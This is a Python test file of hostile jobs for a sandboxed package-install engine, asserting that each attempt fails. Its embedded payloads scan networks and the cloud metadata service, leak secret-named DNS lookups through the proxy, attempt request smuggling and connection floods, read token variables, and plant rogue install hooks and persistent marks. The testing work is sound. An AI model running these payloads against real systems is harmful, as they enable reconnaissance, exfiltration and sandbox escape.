"""H45-H52: jobs that want to get out, in the step that has no network and in the one that reaches registries."""

from __future__ import annotations

import json
from typing import Any

from jobs import Reason
from tests.hostile.items import Item, Seen, js, sh

PICO = {"picocolors": "1.1.1"}
ROOM = {"memoryBytes": 512 << 20, "diskBytes": 256 << 20}
LIB = """
import dgram from "node:dgram"
import dns from "node:dns/promises"
import fs from "node:fs"
import net from "node:net"
import os from "node:os"
import tls from "node:tls"
const connect = (options) => new Promise((done) => {
    const socket = net.connect(options, () => done(socket)).on("error", (error) => done(error.code))
    socket.setTimeout(4000, () => { socket.destroy(); done("silent") })
})
const tcp = async (host, port) => {
    const socket = await connect({ host, port })
    if (socket.destroy) { socket.destroy(); console.log(`OPEN: ${host} ${port}`) }
}
const udp = (host, port) => new Promise((done) => {
    const socket = dgram.createSocket(host.includes(":") ? "udp6" : "udp4")
    socket.on("error", done).send("x", port, host, (error) => { if (!error) console.log(`OPEN: UDP ${host}`); socket.close(done) })
})
const hosts = "@HOSTS@ 172.17.0.1 172.17.0.2 172.18.0.1 169.254.169.254 10.0.0.1 1.1.1.1 8.8.8.8".split(" ")
const names = ["example.com", "host.docker.internal", "metadata.google.internal", "x".repeat(60) + ".example.com"]
const registry = new URL(fs.readFileSync("/etc/registries", "utf8").split("\\n")[0]).host
const ask = async (text, greeting) => {
    const socket = await connect({ host: "127.0.0.1", port: 3128 })
    if (!socket.destroy) return socket
    socket.on("error", () => {}).write(text)
    const answer = await new Promise((done) => {
        socket.once("data", done).once("close", () => done("closed")).once("timeout", () => done("silent"))
    })
    const status = String(answer).split(" ")[1] ?? String(answer)
    if (!greeting || status !== "200") { socket.destroy(); return status }
    return new Promise((done) => {
        const secure = tls.connect({ socket, servername: greeting, rejectUnauthorized: false })
        secure.on("secureConnect", () => { secure.destroy(); done("through") })
        secure.on("error", () => done("ended")); secure.on("close", () => done("ended"))
    })
}
"""
REACH = (
    LIB
    + """
console.log("interfaces", Object.keys(os.networkInterfaces()).join())
for (const host of hosts) for (const port of [@TRAP@, 22, 53, 80, 443, 2375, 3001, 6379]) await tcp(host, port)
for (const host of ["127.0.0.1", "::1"]) for (const port of [@TRAP@, 2375, 3001, 6379]) await tcp(host, port)
for (const host of [...hosts.filter((host) => !host.startsWith("127.")), "224.0.0.251", "fd00:ec2::254", "ff02::1"])
    await udp(host, 53)
for (const name of names) await dns.lookup(name).then(() => console.log(`OPEN: ${name}`), () => {})
console.log("looked")
"""
)
PEERS = (
    LIB
    + """
console.log("interfaces", Object.keys(os.networkInterfaces()).join())
for (const table of ["arp", "dev", "route", "tcp", "unix"])
    console.log(table, fs.readFileSync(`/proc/net/${table}`, "utf8").split("\\n").filter((line) => /eth|veth|br-|docker/.test(line)).join() || "none")
for (let low = 1; low < 30; low++) for (const net of ["172.17.0", "172.18.0", "172.19.0"]) await tcp(`${net}.${low}`, 3128)
console.log("looked")
"""
)
NAMES = (
    LIB
    + """
for (const server of ["127.0.0.11", "127.0.0.53", "1.1.1.1"]) {
    const resolver = new dns.Resolver({ timeout: 1000, tries: 1 })
    resolver.setServers([server])
    for (const name of names) await resolver.resolve4(name).then(() => console.log(`OPEN: ${name} by ${server}`), () => {})
}
for (const name of names) await dns.lookup(name).then(() => console.log(`OPEN: ${name}`), () => {})
for (const target of ["dns.google:443", "cloudflare-dns.com:443", "1.1.1.1:853", `${"secret".repeat(9)}.example.com:443`]) {
    const said = await ask(`CONNECT ${target} HTTP/1.1\\r\\nHost: ${target}\\r\\n\\r\\n`)
    console.log(said === "407" ? `refused ${target}` : `OPEN: ${target} ${said}`)
}
console.log("looked")
"""
)
PROXY = (
    LIB
    + """
const crlf = "\\r\\n", end = crlf + crlf
const targets = ["example.com:443", `${registry}:80`, `${registry}:22`, `${registry}.example.com:443`, "1.1.1.1:443",
    "127.0.0.1:443", "127.0.0.1:3128", "[::1]:443", "[::ffff:127.0.0.1]:443", "localhost:443", "169.254.169.254:80",
    "0x7f.1:443", "2130706433:443", ...hosts.map((host) => `${host}:@TRAP@`)]
const greetings = { [registry]: "through", "example.com": "ended" }
for (const target of targets) {
    const said = await ask(`CONNECT ${target} HTTP/1.1${crlf}Host: ${registry}:443${end}`)
    if (said === "200") console.log(`OPEN: ${target}`)
}
for (const [name, wanted] of Object.entries(greetings)) {
    const said = await ask(`CONNECT ${registry}:443 HTTP/1.1${crlf}Host: x${end}`, name)
    console.log(said === wanted ? `greeting ${wanted}` : `OPEN: greeting of ${name} ${said}`)
}
const smuggled = `Content-Length: 0${crlf}Transfer-Encoding: chunked${end}0${end}GET http://${hosts[0]}:@TRAP@/ HTTP/1.1${end}`
for (const text of [`GET http://${hosts[0]}:@TRAP@/ HTTP/1.1${crlf}Host: ${registry}${end}`, `GET http://${registry}/ HTTP/1.1${end}`,
    `POST http://${registry}/ HTTP/1.1${crlf}${smuggled}`, `GET http://x@${hosts[0]}:@TRAP@/ HTTP/1.1${end}`,
    `GET cache_object://127.0.0.1/info HTTP/1.0${end}`, `GET ftp://${hosts[0]}/ HTTP/1.0${end}`]) {
    const said = await ask(text)
    if (said === "200") console.log(`OPEN: ${text.split(crlf)[0]}`)
}
console.log("looked")
"""
)
IDLE = (
    LIB
    + """
const held = []
for (let n = 0; n < 2000; n++) held.push(net.connect(3128, "127.0.0.1").on("error", () => {}))
await new Promise((done) => setTimeout(done, 2000))
console.log("held", held.length)
process.exit(0)
"""
)
FLOOD = (
    LIB
    + """
const socket = await connect({ host: "127.0.0.1", port: 3128 })
socket.on("error", () => {}).write(`CONNECT ${registry}:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n`)
await new Promise((done) => socket.once("data", done))
const block = Buffer.alloc(1 << 20)
for (let n = 0; n < 64 && !socket.destroyed; n++) await new Promise((done) => socket.write(block, done))
console.log("tried")
"""
)


INSTALL = "an install runs on the engine's own runtime, whatever the setting says"


def package(**fields: Any) -> dict[str, str]:
    """A package.json."""
    return {"package.json": json.dumps(fields)}


def installing(number: str, what: str, script: str, **expected: Any) -> Item:
    """An item whose script runs during the install, as a package's own would."""
    files = package(scripts={"preinstall": "node attack.mjs"}, dependencies=PICO) | {"attack.mjs": script}
    data = {"installScripts": True, "env": {"MY_TOKEN": "token-of-the-job"}}
    return Item(number=number, what=what, files=files, command="true", data=data, limits=ROOM, not_under=INSTALL,
                **expected)  # fmt: skip


def source(what: str, files: dict[str, str], quick: bool = False) -> Item:
    """A dependency that is refused before anything is started."""
    return Item(number="H50", what=what, files=files, command="true", quick=quick,
                reason=Reason.DEPENDENCY_SOURCE_NOT_ALLOWED, checks=(not_started,))  # fmt: skip


def not_started(seen: Seen) -> None:
    assert "installing" not in seen.phase_s, seen.phase_s


def asked_for_are_listed(seen: Seen) -> None:
    listed = seen.record["result"]["egress"]
    assert "dns.google:443" in listed, listed
    assert any("secretsecret" in name for name in listed), listed


def little_sent(seen: Seen) -> None:
    """The tunnel closes at once. That real bytes are capped is shown in tests/engine/test_egress.py, with small caps."""
    assert seen.usage["networkSentBytes"] < 17 << 20, seen.usage


def opted_in(seen: Seen) -> None:
    assert seen.record["result"]["installScripts"] is True, seen.record["result"]


def next_finds_nothing(seen: Seen) -> None:
    """A job that comes after finds none of the marks, whatever slot it has."""
    for number in range(3):
        after = seen.again(sh("H52", "looks for marks", f"{FIND} # {number}"))
        assert "looked" in after.log
        assert "MARK" not in after.log, after.log


LOCK = {
    "name": "x", "lockfileVersion": 3, "packages": {
        "": {"dependencies": PICO},
        "node_modules/picocolors": {"version": "1.1.1", "resolved": "http://169.254.169.254/latest/meta-data/x.tgz"},
    },
}  # fmt: skip
NPMRC = """registry=http://127.0.0.1:@TRAP@/
proxy=http://127.0.0.1:@TRAP@/
https-proxy=http://127.0.0.1:@TRAP@/
cafile=/work/project/evil.pem
strict-ssl=false
script-shell=/work/project/evil.sh
ignore-scripts=false
node-options=--require /work/project/evil.js
"""
EVIL = {"evil.sh": "#!/bin/sh\necho RAN\n", "evil.js": "console.log('RAN')", "evil.pem": "x"}
RAN = {
    name: f"echo RAN {name}" for name in ("preinstall", "install", "postinstall", "prepare", "prepublish", "preprepare")
}
LOCAL = {"pkg/package.json": json.dumps({"name": "pkg", "version": "1.0.0", "scripts": RAN, "bin": {"true2": "x.sh"}})}
HOOK = "console.log('RAN'); module.exports = { name: 'evil', factory: () => ({}), hooks: { readPackage: (p) => p } }"
HOOKS = {
    "yarn's plugins": {"yarn.lock": "__metadata:\n  version: 8\n  cacheKey: 10c0\n", "evil.cjs": HOOK,
                       ".yarnrc.yml": "enableScripts: true\nplugins:\n  - path: ./evil.cjs\n    spec: evil\n"},
    "yarn's own path": {"yarn.lock": "# yarn lockfile v1\n", "evil.cjs": HOOK, ".yarnrc": 'yarn-path "./evil.cjs"\n--install.ignore-scripts false\n'},
    "pnpm's hooks": {"pnpm-lock.yaml": "lockfileVersion: '9.0'\n", ".pnpmfile.cjs": HOOK, ".pnpmfile.mjs": "console.log('RAN')",
                     "pnpm-workspace.yaml": "packages: []\npnpmfile: .pnpmfile.cjs\nignoreScripts: false\n"},
    "bun's preload": {"bun.lock": '{"lockfileVersion": 1, "workspaces": {"": {"name": "x"}}, "packages": {}}', "evil.cjs": HOOK,
                      "bunfig.toml": 'preload = ["./evil.cjs"]\n[install]\nignoreScripts = false\n[run]\nshell = "system"\n'},
    "npm's configuration": {"npmrc": "x", ".npmrc": "globalconfig=npmrc\nuserconfig=npmrc\nnode-options=--require ./evil.cjs\n",
                            "evil.cjs": HOOK},
}  # fmt: skip
SPY = """
import fs from "node:fs"
console.log("token", process.env.MY_TOKEN ?? "unknown", Object.keys(process.env).filter((name) => /SECRET|TOKEN|KEY|CANARY/.test(name)).join())
"""
MARKS = """
for place in /work /work/project /work/home /work/home/.npm /tmp /dev/shm /var/tmp /run /usr/local /etc /dev/mqueue; do
    mkdir -p $place 2>/dev/null; echo MARK >$place/MARK 2>/dev/null
done
(trap '' TERM HUP INT; while :; do echo MARK >/tmp/MARK2; sleep 1; done) &
echo left
"""
FIND = "find / -xdev -name 'MARK*' 2>/dev/null; find /work /tmp /dev/shm -name 'MARK*'; ps ax 2>/dev/null | grep '[M]ARK'; echo looked"

ITEMS = (
    js("H45", "opens sockets in the build: the host, neighbours, metadata, name servers", REACH,
       says=("interfaces (lo)?\n", "looked"), unsaid=("OPEN",), quick=True),
    installing("H46", "scans the host and its networks during the install", REACH, says=("interfaces lo\n", "looked"),
               unsaid=("OPEN",), checks=(opted_in,)),
    installing("H47", "looks for other jobs during the install", PEERS, unsaid=("OPEN",),
               says=("interfaces lo\n", "arp none", "dev none", "route none", "looked")),
    installing("H48", "sends names out by every name server, and by the proxy", NAMES, says=("refused dns.google", "looked"),
               unsaid=("OPEN",), checks=(asked_for_are_listed,)),
    installing("H49", "turns the proxy to addresses, ports, other names and smuggled requests", PROXY,
               says=("greeting through", "greeting ended", "looked"), unsaid=("OPEN",)),
    installing("H49", "holds 2,000 connections to the proxy", IDLE, says=("held 2000",)),
    installing("H49", "pushes 64 MB into a tunnel without a greeting", FLOOD, says=("tried",), checks=(little_sent,)),
    source("depends on git over ssh", package(dependencies={"x": "git+ssh://git@example.com/x.git"}), quick=True),
    source("depends on a repository", package(devDependencies={"x": "someone/x"})),
    source("depends on a tarball of the host", package(dependencies={"x": "http://127.0.0.1:@TRAP@/x.tgz"})),
    source("depends on a folder outside", package(optionalDependencies={"x": "file:../../etc"})),
    source("has a lockfile that names the metadata service", package(dependencies=PICO) | {"package-lock.json": json.dumps(LOCK)}),
    Item(number="H50", what="brings an .npmrc with registry, proxy, authority and shell of its own", command="true",
         files=package(dependencies=PICO) | EVIL | {".npmrc": NPMRC}, limits=ROOM, says=("ignored registry", "added 1 package"),
         unsaid=("RAN",), not_under=INSTALL),
    Item(number="H51", what="has scripts around the install, its own and a package's", command="true", limits=ROOM,
         files=package(scripts=RAN, dependencies={"pkg": "file:./pkg"}) | LOCAL | {"pkg/x.sh": ""}, unsaid=("RAN",),
         not_under=INSTALL),
    *(Item(number="H51", what=f"has its own code run by {tool} while it installs", command="true", limits=ROOM,
           files=package(dependencies=PICO, scripts=RAN) | files, unsaid=("RAN",), not_under=INSTALL)
      for tool, files in HOOKS.items()),
    installing("H51", "asks for scripts, which read the environment", SPY, says=("token unknown \n",), checks=(opted_in,)),
    sh("H52", "leaves marks for the next job in every place", MARKS, says=("left",), checks=(next_finds_nothing,)),
)  # fmt: skip
